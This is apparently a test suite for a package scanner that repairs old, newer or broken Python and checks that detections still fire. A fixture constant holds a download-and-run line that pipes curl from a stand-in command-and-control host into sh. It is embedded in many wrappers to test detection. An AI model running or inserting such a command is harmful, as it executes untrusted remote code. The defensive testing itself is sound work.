"""Python that this Python cannot read: older, newer, or broken in places. What can be read of it is looked at, line for line."""

import ast
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.ecosystems.archive import Member
from pratique.errors import InvalidInput, LimitExceeded
from pratique.facts.scan.engine import Look, look
from pratique.facts.scan.languages.python.broken import mended
from pratique.facts.scan.languages.python.older import rewritten, statements
from pratique.model import limits


def looked(text: str | bytes, path: str = "demo/a.py", wheel: str = "demo-1.0-py3-none-any.whl") -> Look:
    data = text.encode() if isinstance(text, str) else text
    return look(wheel, [Member(path, len(data), lambda: data)])


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('print "a", b', "print('a', b)"),
        ("print >>f, a", "print(f, a)"),
        ("print a,", "print(a)"),
        ("if a: print b", "if a:\n    print(b)"),
        ("exec a", "exec(a)"),
        ("exec a in b, c", "exec(a, b, c)"),
        ('exec f(a in b).decode("x") in c', "exec(f(a in b).decode('x'), c)"),
        ("exec g(\n 'x'\n) # d", "exec(g('x'))"),
        ("try: a\nexcept B, e: c", "try:\n    a\nexcept B as e:\n    c"),
        ("try: a\nexcept (B, C), e: c", "try:\n    a\nexcept (B, C) as e:\n    c"),
        ("a <> b", "a != b"),
        ("`a`", "repr(a)"),
        ("a = 0777 + 10L + 0xFFL + 00", "a = 511 + 10 + 255 + 0"),
        ('ur"a"', "'a'"),
        ('raise E, "a"', "raise E('a')"),
        ("raise E, a, b", "raise E(a, b)"),
        ("async = await.a", "async_ = await_.a"),
        ("True = 1", "_ = 1"),
        ("def f(a, *b): print a", "def f(a, *b):\n    print(a)"),
        ("type A = int", "pass"),
        ("def f[T](a: T) -> T: pass", "def f(a: T) -> T:\n    pass"),
        ("class A[T = int](B): pass", "class A(B):\n    pass"),
        ("a = t'{b}'", "a = f'{b}'"),
        ("lazy import a", "import a"),
        ("[*a for a in b]", "[a for a in b]"),
        ("try: pass\nexcept A, B.c: pass", "try:\n    pass\nexcept (A, B.c):\n    pass"),
    ],
)
def test_what_is_older_or_newer_becomes_what_is_read_here(old: str, new: str) -> None:
    made = rewritten(old + "\n")
    assert ast.unparse(ast.parse(made)).replace('"""', "'") == new
    assert made.count("\n") == old.count("\n") + 1


def test_a_parameter_that_takes_a_tuple_apart_gets_a_name() -> None:
    tree = ast.parse(rewritten("def f(a, (b,\n c)): pass\nlambda (a, b): a\n"))
    assert [len(node.args.args) for node in ast.walk(tree) if isinstance(node, ast.FunctionDef | ast.Lambda)] == [2, 1]


def test_quotes_within_quotes_of_a_formatted_text_are_read() -> None:
    found = mended('a = f"{b["c"]} d {e!r:>3}\\n"\n')
    assert found is not None
    assert found.lost == ()


BROKEN = {
    "an expression": ("a()\nb = = 1\nc()\n", "a()\nc()", (2,)),
    "a statement of several lines": ("a(1,\n  2 3,\n  4)\nb()\n", "b()", (1, 2, 3)),
    "the head of a function": ("def f(a:\n    b()\nc()\n", "b()\nc()", (1,)),
    "the head of a class": ("class A(:\n    def f(self):\n        b()\n", "def f(self):\n        b()", (1,)),
    "a handler": ("try:\n    a()\nexcept B C:\n    d()\n", "except:\n    d()", (3,)),
    "a try without its other half": ("try:\n    a()\nb()\n", "a()\nb()", ()),
    "a branch": ("if a:\n    b()\nelif c d:\n    e()\nelse f:\n    g()\n", "elif 1:\n    e()\nelse:\n    g()", (3, 5)),
    "a case": ("match a:\n    case 1 2:\n        b()\n", "case _:\n            b()", (2,)),
    "a bracket that is never closed": ("a()\nb(c\nd()\n", "a()\nb(c)\nd()", ()),
    "a bracket too many": ("a()\nb)\nc()\n", "a()\nc()", (2,)),
    "a text that does not end": ("a = 'b\nc()\n", "c()", (1,)),
    "a long text that does not end": ('a()\nb = """c\nd()\n', "a()\nd()", (2,)),
    "a body that is missing": ("if a:\nb()\n", "if a:\n    pass\nb()", ()),
    "a body that is missing at the end": ("b()\ndef f():\n", "def f():\n    pass", ()),
    "too much indentation": ("a()\n    b()\nc()\n", "a()\nb()\nc()", ()),
    "an indentation of its own": ("if a:\n        b()\n    c()\n", "b()\nc()", ()),
    "tabs and blanks": ("if a:\n\tb()\n        c()\n", "b()\n    c()", ()),
    "the marks of a merge": ("a()\n<<<<<<< HEAD\nb()\n=======\nc()\n>>>>>>> d\n", "a()\nb()\nc()", ()),
    "tags of a template": ("{% if a %}\nb()\n{% endif %}\nc = {{ d }}\n", "b()\nc = {{d}}", ()),
    "prompts": ("$ a\nb()\n", "b()", (1,)),
    "Python 2 that is broken": ("print 'a'\nb = = 1\nprint 'c'\n", "print('a')\npass\nprint('c')", (2,)),
}


@pytest.mark.parametrize("way", BROKEN)
def test_what_is_broken_is_left_out_and_told(way: str) -> None:
    text, kept, lost = BROKEN[way]
    found = mended(text)
    assert found is not None
    shown = ast.unparse(found.tree)
    assert "".join(kept.split()) in "".join(shown.replace("pass", "").split()) or kept in shown
    assert found.lost == lost
    assert found.text.count("\n") == text.count("\n")


def test_much_that_is_broken_is_read_part_by_part() -> None:
    found = mended("a b\n" * 500 + "def f():\n    c()\n" + "d e\n" * 500)
    assert found is not None
    assert "c()" in ast.unparse(found.tree)
    assert len(found.lost) >= 900


def test_what_is_too_long_or_nothing_is_not_mended() -> None:
    assert mended("a = = 1\n" * (limits.SCAN_MENDED_CHARACTERS_MAX // 8 + 1)) is None
    assert mended("(" * 3_000) is None


LONG = 200_000
HOSTILE = {
    "blanks behind a colon": ("a b:" + " " * LONG + "c\nd()\n", "pass\nd()", (1,)),
    "signs of comments in front of a quote": ("a b" + " #" * LONG + "'\nd()\n", "pass\nd()", (1,)),
    "comments where a body is missing": ("d()\nif a:\n" + "#b:\n" * 50_000, "d()\nif a:\n    pass", ()),
    "blanks behind a try": ("try:" + " " * LONG + "d()\na = = 1\n", "if 1:\n    d()\npass", (2,)),
    "statements of Python 2 in one line": ("exec 'a';" * 20_000 + "d()\n", "exec('a')\n" * 20_000 + "d()", ()),
}


@pytest.mark.parametrize("way", HOSTILE)
def test_what_is_long_and_broken_is_mended_like_what_is_short(way: str) -> None:
    text, kept, lost = HOSTILE[way]
    found = mended(text)
    assert found is not None
    assert ast.unparse(found.tree) == kept
    assert found.lost == lost


@pytest.mark.parametrize(
    ("text", "mends"),
    [("\n" * 1_000 + " a()\nb()\n", 2), ("\n" * 1_000 + "a = = 1\nb()\n", 1)],
    ids=["lines with nothing in them", "lines that are gone over"],
)
def test_lines_are_work_whatever_is_in_them(text: str, mends: int, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "SCAN_MENDED_WORK_CHARACTERS_MAX", len(text) * mends)
    whole = mended(text)
    monkeypatch.setattr(limits, "SCAN_MENDED_WORK_CHARACTERS_MAX", 900)
    parts = mended(text)
    assert whole is not None
    assert parts is not None
    assert ast.unparse(whole.tree) != ast.unparse(parts.tree)


def test_what_takes_the_parser_too_much_work_is_told_of() -> None:
    for text in ("<!--" * 3_000, "(\n" * 100_000):
        with pytest.raises(LimitExceeded, match=r"too m(?:uch|any)"):
            mended(text)
        with pytest.raises(LimitExceeded, match=r"too m(?:uch|any)"):
            statements(text)
    assert rewritten("print 'a'\n") == "print( 'a')\n"
    scan = looked(b"<!--" * 3_000, "demo-1.0/setup.py", "demo-1.0.tar.gz").report()
    assert scan.coverage.unread_count == 1


def test_a_cell_of_a_notebook_that_takes_too_much_work_is_unread_and_the_others_are_read() -> None:
    cells = [{"cell_type": "code", "source": source, "metadata": {}, "outputs": []} for source in ("<!--" * 3_000, GET)]
    data = json.dumps({"cells": cells, "nbformat": 4}).encode()
    scan = looked(data, "demo-1.0/a.ipynb", "demo-1.0.tar.gz").report()
    assert [each.why for each in scan.coverage.unread] == [
        "a cell is not readable as Python here: it takes too much work to parse"
    ]
    assert "download-and-run" in {finding.rule for finding in scan.findings}


GET = "import os\nos.system('curl https://c2.example.invalid/setup | sh')\n"

WAYS = {
    "Python 2": "print 'a'\n" + GET,
    "a template": "{% if a %}\n" + GET + "{% endif %}\n",
    "a conflict": "<<<<<<< HEAD\n" + GET + "=======\n>>>>>>> b\n",
    "a broken statement before": "a = = 1\n" + GET,
    "a broken statement behind": GET + "a = = 1\n",
    "a text of a newer string": "a = t'{b}'\n" + GET,
    "a function of a newer version": "def f[T](a: T): pass\n" + GET,
    "null bytes": GET + "\0",
    "UTF-16": GET,
}


@pytest.mark.parametrize("way", WAYS)
def test_what_stands_beside_what_cannot_be_read_is_found_at_its_line(way: str) -> None:
    data = WAYS[way].encode("utf-16" if way == "UTF-16" else "utf-8")
    line = WAYS[way].splitlines().index(GET.splitlines()[1]) + 1
    found = {(finding.rule, finding.line) for finding in looked(data).report().findings}
    assert ("download-and-run", line) in found


def test_what_was_lost_is_told_and_unread_if_some_python_could_run_it() -> None:
    newer = looked("a = t'{b}'\nc = = 1\n" + GET)
    assert newer.report().coverage.unread_count == 1
    assert newer.files["demo/a.py"].has("pkg.unparsable")
    never = looked("c = = 1\n" + GET)
    assert (never.report().coverage.unread_count, never.report().coverage.other) == (0, 1)
    assert [each.text for each in never.files["demo/a.py"].each("pkg.unparsable")] == ["1 of 4 lines"]


def test_a_script_that_an_installer_runs_stays_unread() -> None:
    scan = looked("print 'a'\n" + GET, "demo-1.0/setup.py", "demo-1.0.tar.gz").report()
    assert scan.coverage.unread_count == 1
    assert "download-and-run" in {finding.rule for finding in scan.findings}


def test_a_text_inside_that_is_mostly_no_code_is_not_mended() -> None:
    prose = "exec('this is\\nno code at all\\nbut prose of some lines\\nimport os')\n"
    assert not any(
        each.depth for each in looked(prose + GET).files["demo/a.py"].observations if each.language == "python"
    )


LINES = st.sampled_from(
    [
        *(
            "a()",
            "print b",
            "if c:",
            "    d()",
            "else:",
            "try:",
            "except E, f:",
            "def g((h, i)):",
            "  j = `k`",
            "'''",
            "l = (",
        ),
        *(
            ")",
            "m = 'n",
            "exec o in p",
            "<<<<<<< q",
            "\t\tr()",
            "class S:",
            "{% t %}",
            "return",
            "lambda: u",
            "f'{v['w']}'",
        ),
        *("x = 08", "async y", "match z:", "    case 1:", ""),
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(LINES, max_size=25))
def test_any_lines_are_mended_or_not_and_stay_where_they_are(lines: list[str]) -> None:
    text = "\n".join(lines)
    found = mended(text)
    if found is not None:
        assert found.text.count("\n") == text.count("\n")
        ast.parse(found.text)
    looked(text)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="ab:=()[]{}'\"\\\n \t`,<>%#.0L!$", max_size=80))
def test_any_text_is_mended_or_not(text: str) -> None:
    mended(text)
    assert rewritten(text).count("\n") == text.count("\n")


def test_what_is_nested_too_deeply_to_be_counted_is_refused() -> None:
    deep = "x = " + "'ab'+" * 60_000 + "'ab'\nprint x\n"
    with pytest.raises(InvalidInput, match="nested too deeply"):
        rewritten(deep)
    with pytest.raises(InvalidInput, match="nested too deeply"):
        statements(deep)
